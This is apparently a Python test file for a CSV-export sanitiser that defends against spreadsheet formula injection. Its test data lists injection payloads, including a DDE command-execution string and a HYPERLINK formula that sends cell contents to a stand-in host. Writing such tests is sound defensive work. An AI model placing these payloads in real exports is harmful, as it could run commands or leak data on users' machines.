"""A text that a spreadsheet would calculate is written harmless, and comes back as it was."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

import xl_quadrant
from xl_quadrant.clients.csv_text import as_it_was, csv_bytes, harmless

ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"open")',
    "+1",
    "-1+2",
    "@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\tb",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u200b=1",
    "\ufeff@x",
    "Glow;=1+1",
    'Glow;"=1+1"',
    "Glow\t+1",
    "Glow\n-1",
    "'=1",
    "''=1",
)
SIGNS = "=+-@'\"; \t\r\n\uff1d\uff20\u200ba1"


def cells_as_shown(text, separator):
    """Return the cells that a spreadsheet sees in a text, if it takes another separator for the right one."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def would_be_calculated(cell):
    """Say whether a spreadsheet would take a cell for a formula, by a rule of its own: the first sign with ink."""
    ink = cell.lstrip("".join(map(chr, range(33))) + '"\u200b\ufeff\xa0')
    return ink[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_separates_cells_where_it_is_opened(text, separator):
    written = csv_bytes([["row", "name", "last"], [2, text, "end"]]).decode("utf-8-sig")
    assert not [cell for cell in cells_as_shown(written, separator) if would_be_calculated(cell)]


@given(st.one_of(st.text(), st.text(SIGNS, max_size=12)))
def test_what_is_written_is_read_as_it_was(text):
    [row] = csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"), newline=""))
    assert as_it_was(row[0] if row else "") == text.encode(errors="replace").decode()


@given(st.text(SIGNS, max_size=12))
def test_no_text_stays_a_formula(text):
    assert not would_be_calculated(harmless(text))
    assert not [part for part in harmless(text).split(";") if would_be_calculated(part)]


def test_numbers_stay_numbers():
    assert csv_bytes([[-5.0, 1e300, None, True, "-5"]]).decode("utf-8-sig") == "-5.0,1e+300,,True,'-5\r\n"


def test_nothing_else_writes_csv():
    """Every module that writes rows for a spreadsheet goes through the one that makes texts harmless."""
    package = Path(xl_quadrant.__file__).parent
    writers = set()
    for path in package.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter"):
                writers.add(path.relative_to(package).as_posix())
    assert writers == {"clients/csv_text.py"}
